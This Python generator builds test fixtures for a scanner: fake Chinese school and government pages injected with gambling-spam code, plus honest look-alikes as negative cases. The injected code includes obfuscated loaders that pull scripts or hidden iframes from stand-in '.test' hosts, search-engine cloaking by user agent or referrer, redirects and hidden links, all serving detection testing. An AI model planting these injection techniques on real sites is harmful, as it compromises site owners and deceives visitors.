"""Recipes of the kit corpus (tests/support/kits): each kit page is built here from readable code
and the obfuscators of :mod:`support.obfuscate`, then written to ``kits/<name>.html``.

    python -m support.kitgen          # from tests/: rewrite the kit files
    python -m support.kitgen --check  # exit 1 if a committed file differs from its recipe

The index ``kits/kits.yaml`` says, per kit, where its shape is documented, the technique, the
rule ids a scan must report and how the loopback server serves it. Operator hosts use the
reserved ``.test`` TLD.
"""

from __future__ import annotations

import sys
from collections.abc import Callable
from pathlib import Path

from support.obfuscate import (
    char_codes,
    entity_encode,
    eval_atob,
    hex_escape,
    pack,
    percent_encode,
    string_array_checksum,
    string_array_rotated,
)

KITS = Path(__file__).with_name("kits")
GAMBLING_TITLE = "澳门新葡京娱乐城-线上百家乐-真人视讯-首存送38%彩金"
GAMBLING_KEYWORDS = "澳门新葡京,百家乐,真人视讯,彩金,老虎机,网上赌场,体育投注"
GAMBLING_DESCRIPTION = "澳门新葡京官方网站提供百家乐、真人视讯、体育投注、电子游艺，新会员首存即送彩金，每日无限返水"


# ------------------------------------------------------------------------------ page pieces
def _school(name: str) -> str:
    return (f"<div id='header'><h1>{name}</h1><ul class='nav'><li><a href='/'>首页</a></li>"
            "<li><a href='/news/1.html'>学校新闻</a></li><li><a href='/about.html'>学校概况</a></li></ul></div>"
            "<div id='main'><h2>通知公告</h2><ul><li><a href='/news/1.html'>关于做好2026年秋季学期开学工作的通知</a></li>"
            "<li><a href='/news/2.html'>我校举行第三十届田径运动会</a></li><li><a href='/news/3.html'>2026年教师招聘公告</a></li></ul>"
            "<p>学校始建于1952年，是省级示范性普通高中，现有教学班48个，在校学生2300余人，专任教师186人。"
            "学校坚持立德树人根本任务，全面推进素质教育，积极开展研究性学习和社会实践活动，教学质量稳步提升，"
            "先后获得省文明校园、省绿色学校等称号。学校图书馆藏书12万册，建有理化生实验室和创客教室。</p></div>"
            f"<div id='footer'>版权所有 ©2026 {name} 备案号：某ICP备12345678号 地址：某某市学府路8号</div>")


def _gov(name: str) -> str:
    return (f"<div class='top'><h1>{name}</h1></div><div class='content'><h2>政务公开</h2>"
            "<ul><li><a href='/zwgk/1.html'>2026年政府工作报告</a></li><li><a href='/zwgk/2.html'>关于进一步优化营商环境的实施意见</a></li>"
            "<li><a href='/zwgk/3.html'>全县秋粮收购工作有序推进</a></li><li><a href='/zwgk/4.html'>2026年第三季度财政预算执行情况</a></li></ul>"
            "<p>本县位于省境东南部，总面积1820平方公里，辖12个乡镇、186个行政村，户籍人口46万。县委县政府坚持以人民为中心的"
            "发展思想，扎实推进乡村振兴，加快建设现代农业产业园，持续改善城乡人居环境，全年地区生产总值增长6.2%。"
            "办事大厅设有社保、医保、不动产登记等窗口，工作日上午8:30至下午5:30对外办公。</p></div>"
            f"<div class='foot'>主办单位：{name}办公室 政府网站标识码：1234000001 公网安备 12345678901234号</div>")


def page(title: str, body: str, head: str = "", keywords: str = "", description: str = "", *, raw_title: bool = False) -> str:
    meta = ""
    if keywords:
        meta += f'<meta name="keywords" content="{keywords}">\n'
    if description:
        meta += f'<meta name="description" content="{description}">\n'
    return (f'<!DOCTYPE html>\n<html lang="zh-CN">\n<head>\n<meta charset="utf-8">\n<title>{title}</title>\n{meta}{head}'
            f"</head>\n<body>\n{body}\n</body>\n</html>\n")


def gambling_page(title: str = GAMBLING_TITLE) -> str:
    body = ("<div class='logo'>澳门新葡京 Casino</div><ul class='games'><li>真人视讯 百家乐</li><li>电子游艺 老虎机</li>"
            "<li>体育投注 皇冠足球</li><li>彩票 北京赛车 时时彩</li><li>棋牌 炸金花 抢庄牛牛</li></ul>"
            "<div class='promo'>新会员首存送38%彩金，每日返水1.5%，无限返水，7x24小时在线客服</div>"
            "<form action='/deposit' method='post'>充值金额<input name='amount'><select name='pay'><option>银行卡转账</option>"
            "<option>USDT-TRC20</option></select><button>立即存款</button></form>"
            "<table class='odds'><tr><th>赛事</th><th>主胜</th><th>平</th><th>客胜</th></tr>"
            "<tr><td>英超 曼联 vs 利物浦</td><td>2.15</td><td>3.40</td><td>3.05</td></tr>"
            "<tr><td>西甲 皇马 vs 巴萨</td><td>1.95</td><td>3.60</td><td>3.70</td></tr></table>")
    return page(title, body, keywords=GAMBLING_KEYWORDS, description=GAMBLING_DESCRIPTION)


def _script(js: str) -> str:
    return f"<script type=\"text/javascript\">{js}</script>\n"


_LINKS = "".join(f"<a href='http://www.{h}.test/'>{w}</a> " for h, w in (
    ("tyc0077", "太阳城娱乐"), ("xpj5858", "澳门新葡京"), ("hg0088", "皇冠体育"), ("js1155", "金沙娱乐城"),
    ("bjl-88", "百家乐"), ("pg-dianzi", "PG电子官方网站")))


# --------------------------------------------------------------------------------- loaders
def loader_packer_twice() -> str:
    js = "document['write']('<script src=\"http://js.tj-9988.test/tj.js?v=20\"></scr'+'ipt>');"
    return page("某某职业技术学院", _school("某某职业技术学院"), head=_script(pack(pack(js))))


def loader_hex_string() -> str:
    html = '<script type="text/javascript" src="http://cdn.xpj-9527.test/jquery.min.js"></script>'
    return page("某某区卫生健康局", _gov("某某区卫生健康局"), head=_script(f'document.write("{hex_escape(html)}");'))


def loader_strarray_rotated() -> str:
    strings = ["write", '<iframe src="http://vip.hg-8866.test/index.html" width="0" height="0" frameborder="0">',
               "</iframe>"]
    js = string_array_rotated(strings, "document[{0}]({1}+{2});", rotation=0x2b, seed=11)
    return page("某某市住房和城乡建设局", _gov("某某市住房和城乡建设局"), head=_script(js))


def loader_strarray_checksum() -> str:
    strings = ["createElement", "script", "src", "https://cdn.bet-tongji.test/hm.js?8a1f", "getElementsByTagName",
               "head", "appendChild"]
    code = "var s=document[{0}]({1});s[{2}]={3};document[{4}]({5})[0][{6}](s);"
    return page("某某县市场监督管理局", _gov("某某县市场监督管理局"), head=_script(string_array_checksum(strings, code, seed=12)))


def loader_strarray_b64() -> str:
    strings = ["document", "write", '<script src="//js.amjs-365.test/c.js"></script>']
    code = "window[{0}][{1}]({2});"
    js = string_array_checksum(strings, code, rotation=3, offset=0x9a, encoding="base64", seed=13)
    return page("某某镇中心小学", _school("某某镇中心小学"), head=_script(js))


def loader_eval_atob() -> str:
    code = ("var s=document.createElement('script');s.type='text/javascript';s.async=true;"
            "s.src='https://js.ylc-8899.test/stat.js';var x=document.getElementsByTagName('script')[0];"
            "x.parentNode.insertBefore(s,x);")
    return page("某某市档案馆", _gov("某某市档案馆"), head=_script(eval_atob(code)))


def loader_fromcharcode() -> str:
    html = '<script src="//js.xpj-stat.test/a.js"></script>'
    return page("某某市科学技术协会", _gov("某某市科学技术协会"), head=_script(f"document.write({char_codes(html)});"))


def loader_unescape() -> str:
    html = '<script language="javascript" src="http://tj.amjs-9.test/count.js"></script>'
    return page("某某县疾病预防控制中心", _gov("某某县疾病预防控制中心"),
                head=_script(f"document.writeln(unescape('{percent_encode(html)}'));"))


def loader_insertadjacent_bracket() -> str:
    js = ("var host = 'vip.am-bet.test';\n"
          "window[\"document\"][\"body\"][\"insertAdjacentHTML\"](\"beforeend\", "
          "'<iframe src=\"http://' + host + '/index.html\" style=\"display:none\"></iframe>');")
    return page("某某市实验中学", _school("某某市实验中学") + _script(js))


def loader_tongji_lookalike() -> str:
    js = ("var _hmt = _hmt || [];(function() {var hm = document.createElement(\"script\");"
          f"hm.src = \"{hex_escape('https://hm.baidu.com.tj-cdn8.test/hm.js?5d2a9c')}\";"
          "var s = document.getElementsByTagName(\"script\")[0];s.parentNode.insertBefore(hm, s);})();")
    return page("某某县人民医院", _gov("某某县人民医院"), head=_script(js))


# ------------------------------------------------------------------------------ title swaps
def title_ua_indexof() -> str:
    js = ('var ua=navigator.userAgent.toLowerCase();'
          'if(ua.indexOf("baidu")==-1&&ua.indexOf("sogou")==-1&&ua.indexOf("360")==-1){document.title="某某县第二中学"}')
    return page(entity_encode("PG电子官方网站"), _school("某某县第二中学"), head=_script(js),
                keywords=entity_encode("PG电子,麻将胡了,PG电子官网", hexa=True))


def title_ua_regex_packed() -> str:
    js = "if(!/sogou|360|sm|toutiao/i.test(navigator.userAgent)){document['title']='某某市人民医院'}"
    return page("开元棋牌(中国)官方网站", _gov("某某市人民医院"), head=_script(pack(js)),
                description="开元棋牌官方网站提供抢庄牛牛、炸金花、百家乐等棋牌游戏，注册即送彩金")


def title_ua_match_strarray() -> str:
    strings = ["userAgent", "toLowerCase", "match", "title", "某某区人民法院"]
    js = string_array_rotated(strings, "if(navigator[{0}][{1}]()[{2}](/(baidu|google|bing|yisou)/)==null){document[{3}]={4};}",
                              rotation=0x7, seed=14)
    return page("AG真人国际厅-官网", _gov("某某区人民法院"), head=_script(js), keywords="AG真人,百家乐,真人视讯")


def title_referrer_gate() -> str:
    js = "if(document['referrer'].indexOf('baidu.com')<0&&document.referrer.indexOf('sogou.com')<0){document.title='某某镇人民政府'}"
    return page(GAMBLING_TITLE, _gov("某某镇人民政府"), head=_script(js), keywords=GAMBLING_KEYWORDS)


def title_spider_description() -> str:
    return page("某某县水利局", _gov("某某县水利局"), keywords=GAMBLING_KEYWORDS, description=GAMBLING_DESCRIPTION)


def title_spider_description_clean() -> str:
    return page("某某县水利局", _gov("某某县水利局"), keywords="水利,防汛,政务公开", description="某某县水利局门户网站")


def head_duplicated() -> str:
    injected = ('<head><title>开云体育(中国)官方网站-登录入口</title>\n<meta name="keywords" content="开云体育,开云app下载,'
                '开云官网">\n<meta name="description" content="开云体育(中国)官方网站提供体育投注、真人视讯、电子游艺">\n</head>\n')
    return "<!DOCTYPE html>\n<html>\n" + injected + page("某某县人民政府门户网站", _gov("某某县人民政府"),
                                                        keywords="政务公开", description="某某县人民政府").split("<html lang=\"zh-CN\">\n", 1)[1]


def head_duplicated_loader() -> str:
    loader = _script(pack("document.write('<script src=\"https://js.kaiyun-tj.test/k.js\"></scr'+'ipt>');"))
    return head_duplicated().replace("</head>\n<body>", loader + "</head>\n<body>").replace(
        "某某县人民政府", "某某县教育局")


def head_injected_gbk() -> str:
    """The injected head of an older GBK site: served as GBK, the title hex-entity encoded."""
    injected = (f"<title>{entity_encode('AG真人国际厅-官网', hexa=True)}</title>\n<meta name=\"keywords\" content=\"AG真人,"
                "百家乐,真人视讯\">\n<meta name=\"description\" content=\"AG真人国际厅官网提供百家乐、龙虎斗、牛牛\">\n")
    return page("某某县农业农村局", _gov("某某县农业农村局"), head='<meta http-equiv="Content-Type" content="text/html; '
                'charset=gbk">\n').replace("<meta charset=\"utf-8\">\n<title>", injected + "<title>", 1).replace(
        '<meta charset="utf-8">\n', "", 1)


# ------------------------------------------------------------------------------ redirects
def redirect_same_host_js() -> str:
    js = ("var regexp=/\\.(sogou|soso|baidu|google|youdao|yahoo|bing|118114|biso|gougou|360|so)(\\.[a-z0-9\\-]+){1,2}\\//ig;"
          "var where=document.referrer;if(regexp.test(where)){window[\"location\"][\"href\"]='/bc/index.html'}")
    return page("某某市图书馆", _school("某某市图书馆"), head=_script(js))


def redirect_meta_js_built() -> str:
    meta = '<meta http-equiv="refresh" content="0;url=http://m.amjs-88.test/">'
    js = f"var r=document.referrer;if(/baidu|sogou|sm\\.cn|so\\.com/.test(r)){{document.write(unescape('{percent_encode(meta)}'));}}"
    return page("某某市气象局", _gov("某某市气象局"), head=_script(js))


def redirect_replace_strarray() -> str:
    strings = ["referrer", "userAgent", "location", "replace", "http://m.xpj-0088.test/?from=seo"]
    code = ("var r=document[{0}],u=navigator[{1}];if(/baidu|sogou|360|so\\.com/i.test(r)&&!/spider|bot/i.test(u))"
            "{window[{2}][{3}]({4});}")
    return page("某某县文化馆", _gov("某某县文化馆"), head=_script(string_array_checksum(strings, code, rotation=4, seed=15)))


def redirect_top_location_hex() -> str:
    js = (f"if(document.referrer.match(/{hex_escape('baidu')}|sogou|so.com/)){{top.location.href="
          f"\"{hex_escape('http://www.hg0088-tyc.test/')}\";}}")
    return page("某某大学继续教育学院", _school("某某大学继续教育学院"), head=_script(js))


# ---------------------------------------------------------------------------- hidden links
def hidden_links_written() -> str:
    html = f"<div style=\"position:absolute;top:-999px;left:-999px\">{_LINKS}</div>"
    js = string_array_rotated(["write", html], "document[{0}]({1});", rotation=0x5, seed=16)
    return page("某某区教育体育局", _gov("某某区教育体育局") + _script(js))


# ------------------------------------------------------------------------------ doorways
def doorway_page() -> str:
    return page("百家乐-澳门百家乐官网-真人百家乐平台", "<h1>百家乐</h1>" + gambling_page().split("<body>\n", 1)[1]
                .split("\n</body>", 1)[0], keywords="百家乐,澳门百家乐官网,真人百家乐", description=GAMBLING_DESCRIPTION)


def doorway_spider_only() -> str:
    return doorway_page().replace("百家乐-澳门", "PG电子-麻将胡了-澳门")


def doorway_search_only() -> str:
    return doorway_page().replace("百家乐-澳门", "开元棋牌-澳门")


def landing_gambling() -> str:
    return gambling_page("开云体育(中国)官方网站-登录入口")


# ----------------------------------------------------------------------- honest look-alikes
def honest_crackdown_news() -> str:
    body = ("<div id='main'><h1>警方提醒：这些“官方网站”都是赌博网站</h1><p class='src'>来源：某市公安局 发布时间：2026-11-20</p>"
            "<p>近日，某市公安局网安支队发现，一些名为“PG电子官方网站”“开元棋牌官网”“开云体育(中国)官方网站”的网页通过"
            "搜索引擎引流，以百家乐、真人视讯、电子游艺等形式招揽境内人员参赌。警方已依法打击，抓获犯罪嫌疑人23名，冻结涉案资金"
            "860万元。</p><p>警方提示：网络赌博是违法犯罪行为，所谓“首存送彩金”“无限返水”都是诱饵，切勿参与。"
            "发现赌博违法犯罪线索，请拨打110举报。</p></div>")
    return page("警方提醒：这些“官方网站”都是赌博网站_警务动态_某市公安局", body)


def honest_welfare_lottery() -> str:
    rows = "".join(f"<tr><td>2026{130 + i:03d}</td><td>03 08 12 19 25 31</td><td>09</td><td>{4 + i}注</td></tr>" for i in range(6))
    body = ("<h1>中国福利彩票</h1><h2>双色球开奖公告</h2><table><tr><th>期号</th><th>红球</th><th>蓝球</th><th>一等奖</th></tr>"
            f"{rows}</table><p>中国福利彩票是国家为筹集社会福利事业发展资金发行的彩票。福彩公益金用于老年人福利、残疾人福利、"
            "儿童福利和社会公益事业。请理性购彩，未满18周岁不得购买彩票。</p>")
    return page("中国福利彩票官方网站-双色球开奖公告", body)


def honest_marquee_notice() -> str:
    body = ("<marquee behavior='scroll' direction='left' scrollamount='4' style='width:100%;height:28px'>"
            "<a href='/news/1.html'>热烈祝贺我校在全省中小学生运动会上获得团体总分第一名！</a>　"
            "<a href='/news/2.html'>关于2026年寒假放假安排的通知</a></marquee>" + _school("某某市实验小学"))
    return page("某某市实验小学", body)


def honest_local_docwrite() -> str:
    js = ("document.write('<script src=\"/js/menu.js\"></scr'+'ipt>');"
          "document.write('<iframe src=\"/map/index.html\" width=\"600\" height=\"400\" frameborder=\"0\"></iframe>');"
          "if(location.hostname.indexOf('www.')!==0){document.write('<link rel=\"stylesheet\" href=\"/css/m.css\">')}")
    return page("某某市自然资源和规划局", _gov("某某市自然资源和规划局"), head=_script(js))


def honest_analytics() -> str:
    tongji = ('var _hmt = _hmt || [];(function() {var hm = document.createElement("script");'
              'hm.src = "https://hm.baidu.com/hm.js?0123456789abcdef0123456789abcdef";'
              'var s = document.getElementsByTagName("script")[0];s.parentNode.insertBefore(hm, s);})();')
    tongji_old = ('var _bdhmProtocol = (("https:" == document.location.protocol) ? " https://" : " http://");'
                  "document.write(unescape(\"%3Cscript src='\" + _bdhmProtocol + \"hm.baidu.com/h.js%3F0123456789abcdef' "
                  "type='text/javascript'%3E%3C/script%3E\"));")
    cnzz = ("document.write(unescape(\"%3Cspan id='cnzz_stat_icon_1279000000'%3E%3C/span%3E%3Cscript src='"
            "https://s9.cnzz.com/z_stat.php%3Fid%3D1279000000%26show%3Dpic' type='text/javascript'%3E%3C/script%3E\"));")
    push360 = ('(function(){var src = "https://jspassport.ssl.qhimg.com/11.0.1.js?d182b3f28525f2db83acfaaf6e696dba";'
               'document.write(\'<script src="\' + src + \'" id="sozz"><\\/script>\');})();')
    bdpush = ("(function(){var bp = document.createElement('script');var curProtocol = window.location.protocol.split(':')[0];"
              "if (curProtocol === 'https') {bp.src = 'https://zz.bdstatic.com/linksubmit/push.js';}"
              "else {bp.src = 'http://push.zhanzhang.baidu.com/push.js';}"
              "var s = document.getElementsByTagName(\"script\")[0];s.parentNode.insertBefore(bp, s);})();")
    ttpush = ('(function(){var el = document.createElement("script");el.src = "https://lf1-cdn-tos.bytegoofy.com/goofy/'
              'ttzz/push.js?0123456789abcdef";el.id = "ttzz";var s = document.getElementsByTagName("script")[0];'
              's.parentNode.insertBefore(el, s);})(window);')
    head = "".join(_script(js) for js in (tongji, tongji_old, bdpush, ttpush))
    return page("某某市交通运输局", _gov("某某市交通运输局") + _script(cnzz) + _script(push360), head=head)


def honest_mobile_redirect() -> str:
    js = ("var ua=navigator.userAgent;if(/Android|webOS|iPhone|iPad|iPod|BlackBerry|IEMobile|Opera Mini/i.test(ua)"
          "&&location.pathname=='/'){window.location.href='/m/index.html';}")
    return page("某某县融媒体中心", _gov("某某县融媒体中心"), head=_script(js))


def honest_brand_titles() -> str:
    body = ("<h1>MG名爵官网</h1><p>上汽MG名爵全新车型上市，MG4 EV、MG7、MG ONE 全系车型预约试驾，全国经销商查询，"
            "车主服务与售后保养预约。新能源购车享受地方补贴，详情咨询当地经销商。</p>" + _school("名爵车主俱乐部"))
    return page("MG名爵官网-上汽MG名爵汽车官方网站", body)


def honest_hotel_title() -> str:
    body = ("<h1>开元酒店集团</h1><p>开元酒店集团旗下拥有开元名都、开元大酒店、开元曼居等品牌，在全国运营酒店三百余家。"
            "会员预订享受早餐礼遇与延迟退房，欢迎预订。</p>" + _school("开元酒店集团"))
    return page("开元酒店集团官方网站-在线预订", body)


def honest_jquery_cdn_fallback() -> str:
    head = ('<script src="https://cdn.bootcdn.net/ajax/libs/jquery/3.6.0/jquery.min.js"></script>\n'
            + _script("window.jQuery || document.write('<script src=\"/static/js/jquery-3.6.0.min.js\"><\\/script>');"))
    return page("某某区人民检察院", _gov("某某区人民检察院"), head=head)


def victim_school() -> str:
    return page("某某市第三中学", _school("某某市第三中学"))


RECIPES: dict[str, Callable[[], str]] = {f.__name__: f for f in (
    loader_packer_twice, loader_hex_string, loader_strarray_rotated, loader_strarray_checksum, loader_strarray_b64,
    loader_eval_atob, loader_fromcharcode, loader_unescape, loader_insertadjacent_bracket, loader_tongji_lookalike,
    title_ua_indexof, title_ua_regex_packed, title_ua_match_strarray, title_referrer_gate, title_spider_description,
    title_spider_description_clean, head_duplicated, head_duplicated_loader, head_injected_gbk,
    redirect_same_host_js, redirect_meta_js_built, redirect_replace_strarray, redirect_top_location_hex,
    hidden_links_written, doorway_spider_only, doorway_search_only, landing_gambling, victim_school,
    honest_crackdown_news, honest_welfare_lottery, honest_marquee_notice, honest_local_docwrite, honest_analytics,
    honest_mobile_redirect, honest_brand_titles, honest_hotel_title, honest_jquery_cdn_fallback)}


def build() -> dict[str, str]:
    """File name -> content of every kit file."""
    return {f"{name}.html": recipe() for name, recipe in RECIPES.items()}


def main(argv: list[str]) -> int:
    files = build()
    if "--check" in argv:
        bad = [n for n, text in files.items() if not (KITS / n).exists() or (KITS / n).read_text("utf-8") != text]
        print("\n".join(bad) or "kits up to date")
        return 1 if bad else 0
    KITS.mkdir(exist_ok=True)
    for name, text in files.items():
        (KITS / name).write_text(text, "utf-8")
    print(f"wrote {len(files)} kit files to {KITS}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
